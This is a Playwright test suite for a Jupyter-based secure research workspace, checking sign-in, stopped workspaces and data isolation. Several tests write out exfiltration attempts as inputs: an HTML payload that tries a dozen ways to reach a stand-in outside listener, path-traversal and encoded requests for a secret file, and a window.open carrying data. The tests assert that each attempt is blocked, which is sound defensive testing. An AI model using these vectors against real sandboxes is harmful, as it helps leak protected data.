"""Real Chromium through the whole door."""

import contextlib
import json
import socket
import threading
import time
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser as RealBrowser
from playwright.sync_api import Page

from tests.door.parts import ROOT
from tests.door.platform import CODE, PASSWORD, Platform
from tests.web.browser import chromium, needs_chromium

SHOTS = ROOT / "build" / "screenshots"

pytestmark = needs_chromium


class Listener:
    """Something outside that would like to be called."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                # A browser may open a connection before it asks its policy; without a byte on it nothing has left
                # but the name of the host. That is a residual risk of its own, not what is tested here.
                with contextlib.suppress(OSError):
                    self.seen += [data] if (data := connection.recv(300)) else []

    def close(self) -> None:
        self._socket.close()


class Browser:
    """A page, and what its console said."""

    def __init__(self, page: Page, platform: Platform) -> None:
        self.page, self.platform = page, platform
        self.console: list[str] = []
        self.refused: list[str] = []
        self.downloads: list[str] = []
        page.on("console", lambda message: self.console.append(f"{message.type}: {message.text}"))
        page.on("pageerror", lambda error: self.console.append(f"pageerror: {error}"))
        page.on("download", lambda download: self.downloads.append(download.url))
        page.on("response", lambda r: self.refused.append(f"{r.status} {r.url}") if r.status >= 400 else None)

    def shot(self, name: str) -> None:
        SHOTS.mkdir(parents=True, exist_ok=True)
        self.page.screenshot(path=SHOTS / f"{name}.png")

    def sign_in(self, name: str) -> None:
        page = self.page
        page.goto(f"{self.platform.url}/hub/home")
        page.get_by_label("User name").fill(name)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_label("One-time code").fill(CODE)
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="Your workspaces").wait_for()

    def open_lab(self, title: str) -> None:
        start = self.page.get_by_role("button", name=f"Start {title}")
        if start.count():
            start.click()
        else:
            self.page.locator("tr", has_text=title).get_by_role("link", name="Open").click()
        self.page.locator("#jp-main-dock-panel").wait_for(timeout=60_000)
        self.page.locator("#jupyterlab-splash").wait_for(state="detached", timeout=60_000)


@pytest.fixture(scope="module")
def real() -> Iterator[RealBrowser]:
    with chromium() as found:
        yield found


@pytest.fixture
def browser(real: RealBrowser, platform: Platform, request) -> Iterator[Browser]:
    context = real.new_context(viewport={"width": 1280, "height": 850}, accept_downloads=True)
    context.set_default_timeout(30_000)
    found = Browser(context.new_page(), platform)
    yield found
    if "outside" not in found.page.url:  # its form is still trying to go elsewhere
        found.shot(f"end-{request.node.name}")
    print(found.console, found.refused, found.page.url)
    context.close()


def csp_complaints(browser: Browser) -> list[str]:
    return [line for line in browser.console if "Content Security Policy" in line or "Permissions-Policy" in line]


def open_notebook(browser: Browser, name: str, *sources: str) -> None:
    """A notebook of alice's in `heart`, in a layout of its own, with its kernel running."""
    cells = [
        {"cell_type": "code", "id": f"c{n}", "metadata": {}, "source": text, "outputs": [], "execution_count": None}
        for n, text in enumerate(sources)
    ]
    spec = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    notebook = {"cells": cells, "metadata": {"kernelspec": spec}, "nbformat": 4, "nbformat_minor": 5}
    (browser.platform.home("alice", "heart") / f"{name}.ipynb").write_text(json.dumps(notebook))
    browser.page.goto(f"{browser.platform.url}/user/alice/heart/lab/workspaces/{name}/tree/{name}.ipynb")
    browser.page.locator(".jp-Notebook-ExecutionIndicator[data-status=idle]").wait_for(timeout=60_000)


def run_cell(browser: Browser, number: int) -> None:
    browser.page.locator(".jp-Notebook .jp-CodeCell .cm-content").nth(number).click()
    browser.page.keyboard.press("Control+Enter")


def shown(locator) -> bool:
    return locator.count() > 0 and locator.first.is_visible()


def run_again_until(browser: Browser, number: int, done: Callable[[], bool]) -> None:
    """Lab drops what is run while it still connects to the kernel, as it shows a person: then one runs it again."""
    for _ in range(8):
        for _ in range(150):
            if done():
                return
            browser.page.wait_for_timeout(100)
        run_cell(browser, number)
    raise AssertionError("the cell did not run")


def test_sign_in_refused_in_words(browser: Browser):
    page = browser.page
    page.goto(f"{browser.platform.url}/hub/home")
    browser.shot("1-sign-in")
    page.keyboard.press("Tab")
    page.get_by_label("User name").fill("alice")
    page.get_by_label("Password").fill("wrong")
    page.get_by_label("One-time code").fill("000000")
    page.keyboard.press("Enter")
    page.get_by_role("alert").get_by_text("The name, the password or the code is wrong.").wait_for()
    browser.shot("2-refused")
    assert page.get_by_label("User name").input_value() == "alice"
    assert page.get_by_label("Password").input_value() == ""


def test_lab_and_a_cell(browser: Browser):
    """Lab comes from the guard, a kernel runs, nothing on the page offends the policy, nothing asked for is missing."""
    browser.sign_in("alice")
    browser.shot("3-projects")
    browser.open_lab("Heart")
    plot = "import matplotlib.pyplot as plt; plt.plot([1, 4, 2]); plt.show()"
    open_notebook(browser, "cell", "print(6 * 7)", plot)
    run_cell(browser, 0)
    run_again_until(browser, 0, lambda: shown(browser.page.locator(".jp-OutputArea-output").get_by_text("42")))
    run_cell(browser, 1)
    run_again_until(browser, 1, lambda: shown(browser.page.locator(".jp-OutputArea-output img")))
    browser.page.keyboard.press("Control+s")
    browser.page.wait_for_timeout(500)
    browser.shot("4-cell")
    assert csp_complaints(browser) == []
    assert browser.refused == []
    assert [line for line in browser.console if line.startswith(("error", "pageerror"))] == []


SUBMIT = """
import release
open("costs.csv", "w").write("plan,n\\nfree,30\\n")
receipt = release.submit("costs.csv", title="Costs by plan", context="Table 1.", controls="Threshold 10.")
print("taken in as", receipt.request)
"""


def test_an_output_is_submitted_from_a_cell(browser: Browser):
    browser.sign_in("alice")
    browser.open_lab("Heart")
    open_notebook(browser, "submit", SUBMIT)
    run_cell(browser, 0)
    said = browser.page.locator(".jp-OutputArea-output").get_by_text("taken in as")
    run_again_until(browser, 0, lambda: shown(said))
    browser.shot("4-submitted")
    request = browser.platform.api.requests[said.first.inner_text().split()[-1]]
    (file,) = request["files"]
    assert (request["title"], file["name"], file["size"]) == ("Costs by plan", "costs.csv", 15)
    assert browser.platform.api.content[file["sha256"]] == b"plan,n\nfree,30\n"


def test_downloads_are_refused(browser: Browser):
    """Neither by an address nor by script: the page's sandbox has no downloads and no windows."""
    browser.sign_in("alice")
    browser.open_lab("Heart")
    (browser.platform.home("alice", "heart") / "secret.csv").write_text("a,b\n1,2\n")
    browser.page.goto(f"{browser.platform.url}/user/alice/heart/lab/workspaces/downloads")
    browser.page.locator("#jp-main-dock-panel").wait_for()
    statuses = browser.page.evaluate(
        """async () => {
            const base = JSON.parse(document.getElementById('jupyter-config-data').textContent).baseUrl;
            const asked = ['files/secret.csv', 'files/secret.csv?download=1', 'nbconvert/html/Untitled.ipynb',
                           '%66iles/secret.csv', 'view/secret.csv', 'lab/../files/secret.csv', 'proxy/1/'];
            return Promise.all(asked.map(path => fetch(base + path).then(answer => answer.status)));
        }"""
    )
    assert statuses == [404] * 7
    browser.page.evaluate(
        """() => {
            const link = document.createElement('a');
            link.href = URL.createObjectURL(new Blob(['secret']));
            link.download = 'secret.csv';
            document.body.append(link);
            link.click();
            window.open('https://example.org/?d=secret');
        }"""
    )
    browser.page.wait_for_timeout(1500)
    assert browser.downloads == []
    assert len(browser.page.context.pages) == 1
    for text in ("Download", "Open in New Browser Tab", "Save and Export Notebook As"):
        browser.page.get_by_role("menuitem", name="File", exact=True).click()
        assert browser.page.get_by_role("menuitem", name=text, exact=True).count() == 0
        browser.page.keyboard.press("Escape")


def test_an_output_does_not_call_out(browser: Browser):
    """What a notebook shows cannot fetch anything from elsewhere, whatever its HTML and script try."""
    outside = Listener()
    there = f"http://127.0.0.1:{outside.port}"
    browser.sign_in("alice")
    browser.open_lab("Heart")
    page = (
        f'<img src="{there}/img?d=1"><link rel=stylesheet href="{there}/css"><script src="{there}/js"></script>'
        f'<iframe src="{there}/frame"></iframe><video src="{there}/video"></video><object data="{there}/o"></object>'
        f'<style>body {{ background: url({there}/bg) }}</style><link rel=prefetch href="{there}/prefetch">'
        f'<form id=f action="{there}/form" method=post></form>'
        f"<script>fetch('{there}/fetch', {{mode: 'no-cors'}}).catch(() => 0);"
        f"navigator.sendBeacon('{there}/beacon', 'd'); new Image().src = '{there}/image';"
        f"try {{ new WebSocket('ws://127.0.0.1:{outside.port}/ws') }} catch (e) {{}}"
        f"try {{ new EventSource('{there}/es') }} catch (e) {{}}"
        f"try {{ new Worker(URL.createObjectURL(new Blob(['fetch(\\'{there}/worker\\')']))) }} catch (e) {{}}"
        "console.log('all tried')</script>"
    )
    open_notebook(browser, "outside", f"from IPython.display import HTML\nHTML({page!r})")
    run_cell(browser, 0)
    run_again_until(browser, 0, lambda: "log: all tried" in browser.console)
    browser.page.wait_for_timeout(2000)
    browser.shot("5-output")
    browser.page.evaluate("setTimeout(() => document.getElementById('f').submit(), 50)")
    time.sleep(2)
    outside.close()
    assert outside.seen == []
    assert "log: all tried" in browser.console
    assert len(csp_complaints(browser)) > 10


def test_one_project_does_not_reach_another(browser: Browser):
    """Script in one project's page cannot ask another project's workspace, the Hub or the platform's pages."""
    browser.sign_in("alice")
    browser.open_lab("Lung")
    browser.page.goto(f"{browser.platform.url}/hub/home")
    browser.open_lab("Heart")
    reached = browser.page.evaluate(
        """async () => Promise.all(['/user/alice/lung/api/contents', '/user/alice/lung/lab', '/hub/home',
            '/hub/api/user', '/tre/'].map(path => fetch(path).then(answer => answer.status, () => 'blocked')))"""
    )
    assert reached == ["blocked"] * 5
    assert "lung" not in browser.page.evaluate("document.cookie")


def test_a_stopped_workspace(browser: Browser):
    browser.sign_in("alice")
    browser.open_lab("Lung")
    browser.page.goto(f"{browser.platform.url}/hub/home")
    browser.shot("6-running")
    browser.page.get_by_role("button", name="Stop Lung").click()
    browser.page.get_by_role("button", name="Start Lung").wait_for(timeout=30_000)
    for _ in range(20):  # the proxy learns of it a moment later
        browser.page.goto(f"{browser.platform.url}/user/alice/lung/lab")
        if browser.page.get_by_role("heading", name="The workspace is not running").count():
            break
        assert browser.page.get_by_role("heading", name="404 Not Found").count()
        browser.page.wait_for_timeout(250)
    else:
        raise AssertionError(browser.page.content())
    browser.shot("7-not-running")


def test_a_closed_gate_is_told(browser: Browser):
    browser.platform.api.refuse_start["lung"] = "Your training ended on 1 March."
    try:
        browser.sign_in("alice")
        browser.page.get_by_role("button", name="Start Lung").click()
        browser.page.get_by_role("alert").get_by_text("Your training ended on 1 March.").wait_for()
        browser.shot("8-gate")
    finally:
        browser.platform.api.refuse_start.clear()
